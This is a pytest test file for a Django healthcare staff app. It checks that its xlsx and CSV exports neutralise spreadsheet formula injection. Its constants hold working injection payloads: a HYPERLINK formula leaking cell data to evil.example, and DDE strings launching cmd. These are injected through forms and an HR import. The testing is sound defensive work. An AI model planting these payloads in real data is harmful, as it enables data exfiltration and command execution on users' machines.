"""No export runs what people typed as a formula (finding 3 of the probe).

A member named like a spreadsheet formula is created the way an attacker would: through the
admin's "add person" form and through an HR import. Then every export a manager can download
is opened the way a spreadsheet opens it: no cell may be a formula, and the text stays visible.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django_scopes import scope, scopes_disabled
from openpyxl import load_workbook

from tests.competences.factories import required_device
from tests.incidents.conftest import report_data
from tests.organisations.test_hr_import_helpers import csv_bytes, existing_rows
from tests.signin import sign_in
from zorgwijs.competences.services import qualification_register
from zorgwijs.lib.spreadsheets import FORMULA_STARTS
from zorgwijs.organisations.models import Membership

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik hier")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def admin(world, settings, tmp_path):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    return sign_in(Client(), world.admin_a.user, mfa=True)


def _org_url(world, name, **kwargs):
    return reverse(name, kwargs={"org_slug": world.org_a.slug, **kwargs})


@pytest.fixture
def evil_members(world, admin):
    """One member added by the admin form, one by an HR import; both qualified on a device."""
    response = admin.post(
        _org_url(world, "organisations:admin_member_add"),
        {
            "email": "evil@example.org",
            "full_name": HYPERLINK,
            "employee_number": "900001",
            "primary_department": world.cathlab.pk,
            "start_date": "2026-01-01",
        },
    )
    assert response.status_code == 302, response.content
    rows = existing_rows(world)
    rows.append(["900001", HYPERLINK, "evil@example.org", "", "Hartcentrum/Cathlab", "", "", ""])
    rows.append(["900002", DDE, "dde@example.org", "", "Hartcentrum/Cathlab", "", "", ""])
    response = admin.post(
        _org_url(world, "organisations:hr_import"),
        {"file": SimpleUploadedFile("hr.csv", csv_bytes(rows))},
    )
    assert response.status_code == 302
    admin.post(response["Location"].rstrip("/") + "/toepassen/")
    with scopes_disabled():
        members = list(
            Membership.objects.filter(
                organisation=world.org_a, user__full_name__in=[HYPERLINK, DDE]
            )
        )
    assert {m.user.full_name for m in members} == {HYPERLINK, DDE}
    pump = required_device(world, AT, [world.cardiology])
    with scope(organisation=world.org_a.pk):
        for member in members:
            qualification_register(
                actor=world.admin_a.user,
                membership=member,
                item=pump,
                occurred_on=timezone.localdate(),
                evidence_kind="practical",
            )
    return members


def test_igj_evidence_pack_xlsx_holds_text_never_formulas(world, admin, evil_members):
    response = admin.get(_org_url(world, "competences:evidence_pack"), {"formaat": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    # Exactly as typed, visible as text.
    assert {HYPERLINK, DDE, AT} <= texts


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body, newline="")))


def _assert_neutralised(rows: list[list[str]], *typed: str) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for text in typed:
        assert "'" + text in cells  # shown as typed, behind the apostrophe that keeps it text


def test_audit_csv_neutralises_what_people_typed(world, admin, evil_members):
    rows = _csv(admin.get(_org_url(world, "organisations:audit:export")))
    _assert_neutralised(rows, HYPERLINK, DDE)


def test_incident_csv_neutralises_what_people_typed(world, coordinator, evil_members):
    reporter = sign_in(Client(), evil_members[0].user, mfa=True)
    response = reporter.post(
        _org_url(world, "incidents:report"),
        report_data(world, location=MINUS, what_happened=HYPERLINK, immediate_action=AT),
    )
    assert response.status_code == 302
    triage = sign_in(Client(), coordinator.user, mfa=True)
    rows = _csv(triage.get(_org_url(world, "incidents:export")))
    _assert_neutralised(rows, MINUS, HYPERLINK, AT)
